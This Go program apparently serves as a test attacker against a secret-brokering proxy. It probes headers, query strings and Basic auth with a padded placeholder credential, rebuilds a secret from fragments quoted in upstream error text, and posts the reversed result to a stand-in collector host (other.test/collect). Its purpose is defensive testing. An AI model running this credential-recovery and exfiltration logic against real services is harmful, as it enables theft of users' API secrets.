// Command quoteattack plays a guest after a brokered secret: it puts the
// placeholder in $KEY next to bytes it knows, in every header the secret
// could go in, so that an upstream quoting the ends of a rejected
// credential would show parts of the value; rebuilds what the quotes
// show; and sends that, reversed, to another host. It also tries plain
// HTTP to the secret's host and the placeholder in a body to another
// host. Each step prints one line, for the test to check.
package main

import (
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"os"
	"strings"
	"time"
)

var client = &http.Client{Timeout: 30 * time.Second}

func send(method, url, body string, set func(*http.Request)) (int, string) {
	var rd io.Reader
	if body != "" {
		rd = strings.NewReader(body)
	}
	req, err := http.NewRequest(method, url, rd)
	if err != nil {
		return 0, err.Error()
	}
	if set != nil {
		set(req)
	}
	res, err := client.Do(req)
	if err != nil {
		return 0, err.Error()
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(res.Body, 1<<16))
	return res.StatusCode, string(b)
}

func quoted(body, which string) string {
	_, rest, ok := strings.Cut(body, which+"=")
	if !ok {
		return ""
	}
	q, _, _ := strings.Cut(rest, " ")
	return strings.TrimSpace(q)
}

func main() {
	ph := os.Getenv("KEY")
	code, _ := send("GET", "https://api.test/v1", "", func(r *http.Request) { r.Header.Set("Authorization", "Bearer "+ph) })
	fmt.Printf("bearer %d\n", code)
	code, _ = send("GET", "https://api.test/v1", "", func(r *http.Request) { r.Header.Set("X-Api-Key", ph) })
	fmt.Printf("x-api-key %d\n", code)

	var prefix, suffix string
	for _, k := range []int{1, 2, 7} {
		pre, post := strings.Repeat("A", k), strings.Repeat("B", k)
		for _, p := range []struct {
			what, before, after string
			set                 func(*http.Request, string)
		}{
			{"bearer-prefix", pre, "", func(r *http.Request, v string) { r.Header.Set("Authorization", "Bearer "+v) }},
			{"bearer-suffix", "", post, func(r *http.Request, v string) { r.Header.Set("Authorization", "Bearer "+v) }},
			{"x-api-key-prefix", pre, "", func(r *http.Request, v string) { r.Header.Set("X-Api-Key", v) }},
			{"x-api-key-suffix", "", post, func(r *http.Request, v string) { r.Header.Set("X-Api-Key", v) }},
			{"other-header", pre, post, func(r *http.Request, v string) { r.Header.Set("X-Debug", v) }},
			{"basic-prefix", pre, "", func(r *http.Request, v string) {
				r.Header.Set("Authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte("u:"+v)))
			}},
			{"query", pre, "", func(r *http.Request, v string) { r.URL.RawQuery = "key=" + v }},
		} {
			code, body := send("GET", "https://api.test/v1", "", func(r *http.Request) { p.set(r, p.before+ph+p.after) })
			fmt.Printf("probe %s %d\n", p.what, code)
			if f := strings.TrimPrefix(quoted(body, "first"), p.before); len(f) > len(prefix) {
				prefix = f
			}
			if l := strings.TrimSuffix(quoted(body, "last"), p.after); len(l) > len(suffix) {
				suffix = l
			}
		}
	}
	recovered := prefix + suffix
	for o := min(len(prefix), len(suffix)); o > 0; o-- {
		if strings.HasSuffix(prefix, suffix[:o]) {
			recovered = prefix + suffix[o:]
			break
		}
	}
	fmt.Printf("recovered %q\n", recovered)
	rev := []byte(recovered)
	for i, j := 0, len(rev)-1; i < j; i, j = i+1, j-1 {
		rev[i], rev[j] = rev[j], rev[i]
	}
	code, _ = send("POST", "https://other.test/collect", "got="+string(rev), nil)
	fmt.Printf("exfil %d\n", code)

	code, _ = send("GET", "http://api.test/v1", "", func(r *http.Request) { r.Header.Set("Authorization", "Bearer "+ph) })
	fmt.Printf("plain-http %d\n", code)
	code, _ = send("POST", "https://other.test/collect", "note="+ph, nil)
	fmt.Printf("body-other-host %d\n", code)
}
